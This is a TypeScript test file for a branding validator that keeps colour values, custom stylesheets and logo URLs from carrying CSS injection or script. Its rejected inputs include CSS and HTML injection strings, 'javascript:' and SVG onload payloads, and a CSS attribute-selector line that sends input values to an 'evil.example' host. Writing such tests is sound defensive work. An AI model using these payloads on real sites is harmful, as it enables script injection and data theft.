// Branding values that reach CSS or HTML: colours are CSS colour values and nothing else, the extra
// stylesheet can style but load nothing, a logo is https or a bounded data:image URI.
import { describe, expect, test } from "bun:test";
import { ValidationError } from "../errors";
import { logoProblem, parseColour, stylesheetProblem, validateBranding } from "./model";

describe("colours", () => {
  test("hex, functional notations with numbers, and colour names are accepted (normalised)", () => {
    expect(parseColour("#B00020")).toBe("#b00020");
    expect(parseColour("#fff")).toBe("#fff");
    expect(parseColour("#11223344")).toBe("#11223344");
    expect(parseColour("rgb(10, 20, 30)")).toBe("rgb(10, 20, 30)");
    expect(parseColour("hsl(210deg 80% 40% / 0.5)")).toBe("hsl(210deg 80% 40% / 0.5)");
    expect(parseColour("oklch(0.6 0.15 250)")).toBe("oklch(0.6 0.15 250)");
    expect(parseColour("RebeccaPurple")).toBe("rebeccapurple");
  });

  test("anything that could leave the value is refused (CSS injection)", () => {
    for (const bad of [
      "red;}body{background:url(https://evil.example/x)}",
      "#fff;background-image:url(//evil)",
      "red}</style><script>alert(1)</script>",
      "url(https://evil.example/a.png)",
      "var(--x)",
      "expression(alert(1))",
      "rgb(1,2,3);color:red",
      "rgb(calc(1),2,3)",
      "#ggg",
      "red\\3b",
      "inherit",
      "",
      "a".repeat(100),
    ]) expect(parseColour(bad)).toBeUndefined();
  });
});

describe("extra stylesheet", () => {
  test("plain rules and data:image URLs are allowed", () => {
    expect(stylesheetProblem("main{border-radius:0} .primary{text-transform:uppercase}")).toBeUndefined();
    expect(stylesheetProblem("body{background-image:url('data:image/png;base64,iVBORw0KGgo=')}")).toBeUndefined();
  });

  test("loading anything, escapes and markup are refused", () => {
    expect(stylesheetProblem("@import url(https://evil.example/x.css);")).toContain("@import");
    expect(stylesheetProblem("input[value^=a]{background:url(https://evil.example/a)}")).toContain("url()");
    expect(stylesheetProblem("a{background:url(//evil.example/a)}")).toContain("url()");
    expect(stylesheetProblem('a{background:image-set("https://evil.example/a" 1x)}')).toContain("image-set()");
    expect(stylesheetProblem("a{background:\\75rl(https://evil.example)}")).toContain("backslash");
    expect(stylesheetProblem("</style><script>alert(1)</script>")).toContain("markup");
    expect(stylesheetProblem("@font-face{font-family:x;src:url(https://evil.example/f)}")).toBeDefined();
    expect(stylesheetProblem("a{width:expression(alert(1))}")).toContain("expression");
    expect(stylesheetProblem("a{}".repeat(20_000))).toContain("at most");
  });
});

describe("logo", () => {
  test("an https URL or a base64 data:image URI of at most 64 KiB", () => {
    expect(logoProblem("https://cdn.example.com/logo.svg")).toBeUndefined();
    expect(logoProblem(`data:image/png;base64,${Buffer.alloc(100).toString("base64")}`)).toBeUndefined();
    expect(logoProblem("http://cdn.example.com/logo.png")).toBeDefined();
    expect(logoProblem("javascript:alert(1)")).toBeDefined();
    expect(logoProblem("data:text/html;base64,PHNjcmlwdD4=")).toBeDefined();
    expect(logoProblem('data:image/svg+xml,<svg onload="alert(1)">')).toBeDefined();
    expect(logoProblem("https://user:pw@cdn.example.com/logo.png")).toBeDefined();
    expect(logoProblem(`data:image/png;base64,${Buffer.alloc(70_000).toString("base64")}`)).toBeDefined();
  });
});

test("validateBranding names every bad field at once and keeps null as 'clear'", () => {
  expect(validateBranding({ product_name: " Acme ID ", primary_colour: null })).toEqual({ product_name: "Acme ID", primary_colour: null });
  try {
    validateBranding({ primary_colour: "red;}", text_colour: "blue", stylesheet: "@import 'x';", product_name: "" });
    throw new Error("not refused");
  } catch (err) {
    expect(err).toBeInstanceOf(ValidationError);
    expect((err as ValidationError).fields!.map((f) => f.field).sort()).toEqual(["primary_colour", "product_name", "stylesheet"]);
  }
});
